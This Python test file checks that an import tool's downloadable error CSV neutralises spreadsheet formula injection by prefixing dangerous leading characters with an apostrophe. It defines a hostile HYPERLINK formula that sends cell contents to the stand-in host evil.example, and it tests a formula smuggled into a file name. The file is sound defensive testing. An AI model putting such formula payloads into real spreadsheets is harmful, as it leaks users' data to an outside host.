"""The import's error and warning lists ("Tải toàn bộ danh sách lỗi") are opened in a
spreadsheet, so they follow the exports' rule (issue 20: `=HYPERLINK(…)`, `=1+1` and a file
named `=1+2.csv` came back as live formulas): every text cell that would start a formula gets
an apostrophe, the rest is verbatim."""

from __future__ import annotations

import csv as csvmod
import io

import pytest
from import_kit import run

from data_access.formulas import DANGEROUS_START

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"bấm")'


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csvmod.reader(io.StringIO(data[3:].decode("utf-8"))))


def test_error_csv_cells_never_start_a_formula(engine):
    report = run(
        engine,
        {
            "roster.csv": f"year,person_code,unit_code\n{HOSTILE},P1,U1\n=1+1,P2,U1\n+2,P3,U1\n",
            "=1+2.csv": "a,b\n1,2\n",
        },
    )
    assert not report.ok
    rows = _rows(report.errors_csv())
    cells = [c for row in rows[1:] for c in row]
    assert all(not c or c[0] not in DANGEROUS_START for c in cells)
    assert "'" + HOSTILE in cells and "'=1+1" in cells and "'+2" in cells
    assert "'=1+2.csv" in cells  # the file's own name
    # Nothing else changed: the same rows as the screen's frame, with the apostrophes off.
    frame = report.to_frame()
    assert len(rows) - 1 == frame.height


@pytest.mark.parametrize("start", list(DANGEROUS_START), ids=[hex(ord(c)) for c in DANGEROUS_START])
def test_every_dangerous_start_is_neutralised(engine, start):
    # A year that is not a number: the error's value is the text as the file had it.
    report = run(engine, {"roster.csv": f'year,person_code,unit_code\n"{start}9",P1,U1\n'})
    rows = _rows(report.errors_csv())
    values = [r[3] for r in rows[1:]]
    assert values and all(not v or v[0] not in DANGEROUS_START for v in values)
    if start not in "\t\r":  # blank characters may be trimmed by the reader before the check
        assert "'" + start + "9" in values
